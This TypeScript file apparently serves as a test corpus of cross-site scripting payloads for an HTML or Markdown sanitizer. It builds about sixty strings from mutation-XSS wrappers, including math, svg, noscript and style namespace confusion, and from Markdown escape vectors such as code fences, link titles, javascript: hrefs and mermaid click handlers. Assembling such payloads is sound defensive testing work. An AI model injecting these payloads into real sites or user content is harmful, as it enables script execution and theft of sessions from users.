// Elements that change how what is inside them is read: written out and read again, a text becomes an element.
import { deed } from './script.js';

const image = `<img src=x onerror=${deed}>`;

/** Inside of these a parser reads by other rules. */
const outer = [
  [
    '<math><mtext><table><mglyph><style><!--</style>',
    '--></style></mglyph></table></mtext></math>',
  ],
  ['<svg></p><style><a id="</style>', '"></style></svg>'],
  ['<noscript><p title="</noscript>', '"></noscript>'],
  ['<template>', '</template>'],
  ['<title>', '</title>'],
  ['<xmp><p title="</xmp>', '"></xmp>'],
  ['<plaintext>', ''],
  ['<textarea><p title="</textarea>', '"></textarea>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', '</style></mglyph></form>'],
  ['<select><style></select>', '</style></select>'],
  ['<table><caption><svg><title><template>', '</template></title></svg></caption></table>'],
  ['<!--', '-->'],
  ['<![CDATA[', ']]>'],
  ['<?xml version="1.0"?>', ''],
  ['<listing>&lt;', '</listing>'],
  ['<div><div><div><div><div><div><div><div>', '</div></div></div></div></div></div></div></div>'],
  ['<a><a><table><a>', '</a></table></a></a>'],
] as const;

/** What in Markdown may let something out of where it stands. */
const fences = [
  `\`\`\`html\n${image}\n\`\`\`\n${image}`,
  `\`\`\`"><img/src=x/onerror=${deed}>\ncode\n\`\`\``,
  `\`\`\`js\n</code></pre>${image}\n`,
  `\`${image}\``,
  `\`\`${image}\`\`\``,
  `    ${image}`,
  `> ${image}\n>\n> <script>${deed}</script>`,
  `| a | ${image} |\n|---|---|\n| <script>${deed}</script> | b |`,
  `- [ ] ${image}\n- [x] <script>${deed}</script>`,
  `[^NUMBER]\n\n[^NUMBER]: ${image}`,
  `**${image}** ~~<svg onload=${deed}>~~`,
  `<div markdown="1">${image}</div>`,
  `[${image}](https://slack.com)`,
  `![${image}](https://slack.com "${image}")`,
  `[x](https://slack.com "\\"><img src=x onerror=${deed}>")`,
  `[x](https://slack.com'onmouseover='${deed})`,
  `<https://slack.com"onmouseover="${deed}">`,
  `https://slack.com/"onmouseover="${deed}`,
  `$\\href{javascript:${deed}}{x}$`,
  `\`\`\`mermaid\ngraph TD; a[${image}] --> b; click a "javascript:${deed}"\n\`\`\``,
];

/** Some sixty. */
export const nested: readonly string[] = [
  ...outer.flatMap(([before, after]) => [
    `${before}${image}${after}`,
    `${before}<script>${deed}</script>${after}`,
  ]),
  ...fences,
];
